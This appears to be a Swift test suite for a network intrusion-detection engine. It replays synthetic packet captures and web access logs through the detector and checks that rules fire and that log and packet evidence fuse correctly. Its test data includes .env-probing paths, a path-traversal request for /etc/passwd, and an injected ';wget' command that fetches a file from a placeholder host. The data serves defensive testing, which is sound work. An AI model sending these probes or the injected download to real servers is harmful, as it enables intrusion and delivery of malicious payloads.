// Rules about packets, tried on packets: the table of NetworkRuleCases through replay, and what logs and captures say together.
import AgentRuntime
import CaptureReplay
import Detection
import Glibc
import PacketSources
import Primitives
import RuleLanguage
import Testing

@testable import PanguardTestKit

private let root = "/" + #filePath.split(separator: "/").dropLast(3).joined(separator: "/")
private let loaded = RuleStore.load(yaml: ["\(root)/rules/host", "\(root)/rules/network"])
/// The id of each rule's file.
let idOfFile: [String: String] = Dictionary(
  loaded.set.rules.map { rule in (String((rule.location.file.split(separator: "/").last ?? "").prefix { $0 != "." }), rule.id) },
  uniquingKeysWith: { first, _ in first })

/// What is decided on a capture, and on logs beside it. `step`: bytes of one read at most.
func decisions(_ capture: [UInt8]?, logs: [(name: String, text: String)] = [], step: Int = .max) throws -> [Decision] {
  let detector = Detector(ruleSet: loaded.set, ruleSetHash: loaded.hash, configuration: DetectorConfiguration(), engineVersion: "test")
  let replay = Replay(pipeline: Pipeline(detector: detector))
  let time = EventTime(year: 2026, month: 1, day: 6, hour: 0, minute: 0, second: 0) ?? .zero
  var paths: [String] = []
  defer { for path in paths { unlink(path) } }
  for log in logs {
    let path = "\(TemporaryPath.directory)/panguard-\(getpid())-\(UInt64.random(in: 0 ... .max))-\(log.name)"
    let file = try #require(fopen(path, "w"))
    fputs(log.text, file)
    fclose(file)
    paths.append(path)
    try replay.add(path: path, format: .auto, inputTime: time, standardInputTime: time, utcOffsetSeconds: 0)
  }
  if let capture {
    replay.add(CaptureReplay(path: "test.pcap", modificationTime: time, reader: CaptureReader(bytes: capture, step: step)))
  }
  var found: [Decision] = []
  _ = replay.run { found.append($0) }
  #expect(replay.damagedInputs.map(\.description) == [])
  return found
}

private enum TemporaryPath {
  static var directory: String { getenv("TMPDIR").map { String(cString: $0) } ?? "/tmp" }
}

extension NetworkRuleCase {
  /// The rule fires on the one capture, and not on the other.
  func check() throws {
    let id = try #require(idOfFile[rule], "\(rule) is no rule")
    var capture = CaptureBuilder()
    fires(&capture)
    let found = try decisions(capture.pcap)
    #expect(found.contains { $0.ruleID == id }, "\(id) is silent; \(Set(found.map(\.ruleID)).sorted())")
    var other = CaptureBuilder()
    isSilent(&other)
    let fired = try decisions(other.pcap)
    #expect(!fired.contains { $0.ruleID == id }, "\(id) fires on what is none")
  }
}

@Suite struct NetworkRuleTests {
  @Test(arguments: networkRuleCases) func rule(_ test: NetworkRuleCase) throws { try test.check() }

  /// Detectors have their captures beside them; every rule about single messages and flows has its own here.
  @Test func noRuleLacksACapture() {
    let tried = Set(networkRuleCases.map { idOfFile[$0.rule] ?? $0.rule })
    #expect(tried.count == networkRuleCases.count)
    let wanted = loaded.set.rules.map(\.id).filter { $0.hasPrefix("ATR-2026-908") || $0 == "ATR-COR-2026-90080" }
    #expect(wanted.count >= 50)
    #expect(Set(wanted).subtracting(tried).sorted() == [])
  }

  @Test func theSameBytesAtEveryStep() throws {
    var capture = CaptureBuilder()
    for test in networkRuleCases { test.fires(&capture) }
    let bytes = capture.pcap
    let whole = try decisions(bytes)
    #expect(Set(whole.map(\.ruleID)).count >= 50)
    for step in [1, 7, 4096] { #expect(try decisions(bytes, step: step) == whole, "\(step)") }
  }
}

/// One request, seen by the server's log and on the wire.
@Suite struct LogsAndPacketsTests {
  private static let targets = (1...12).map { "/old\($0)/.env" } + ["/../../../../etc/passwd", "/x?c=;wget+http://203.0.113.251/m"]
  private static let address = "203.0.113.9"

  private static var both: (log: String, capture: [UInt8]) {
    var capture = CaptureBuilder()
    var log = ""
    for (i, target) in targets.enumerated() {
      capture.http(from: address, to: "10.0.0.5", "GET", target, agent: "curl/8.5.0", status: 404)
      log += "\(address) - - [05/Jan/2026:10:00:\(i < 10 ? "0" : "")\(i) +0000] \"GET \(target) HTTP/1.1\" 404 153 \"-\" \"curl/8.5.0\"\n"
      capture.wait(seconds: 1)
    }
    return (log, capture.pcap)
  }
  private static func isAboutLogs(_ decision: Decision) -> Bool {
    loaded.set.rules.first { $0.id == decision.ruleID }?.agentSource == "host_log" && decision.ruleID != "ATR-COR-2026-90081"
  }
  @Test func rulesAboutLogsCountARequestOnce() throws {
    let (log, capture) = Self.both
    let alone = try decisions(nil, logs: [("access.log", log)])
    let together = try decisions(capture, logs: [("access.log", log)])
    // With how much each opened: a window that packets fed as well would open earlier, and more often.
    func openings(_ list: [Decision]) -> [String] {
      list.filter { Self.isAboutLogs($0) && $0.matchCount == 1 }.map { "\($0.ruleID) \($0.observed) \($0.firstTime) \($0.lastTime)" }
    }
    #expect(openings(alone).count >= 3)
    #expect(openings(together) == openings(alone))
    let packets = try decisions(capture)
    #expect(packets.filter(Self.isAboutLogs).map(\.ruleID) == [])
    #expect(packets.contains { $0.ruleID == "ATR-2026-90821" })
  }

  /// Both witnesses stand in one decision.
  @Test func theSameAttackInBoth() throws {
    let (log, capture) = Self.both
    let together = try decisions(capture, logs: [("access.log", log)])
    let fused = try #require(together.first { $0.ruleID == "ATR-COR-2026-90081" })
    let sources = Set(fused.evidence.map { $0.source.hasSuffix("access.log") ? "log" : $0.source })
    #expect(sources == ["log", "test.pcap"])
    #expect(fused.subject.source == Self.address)
  }
}
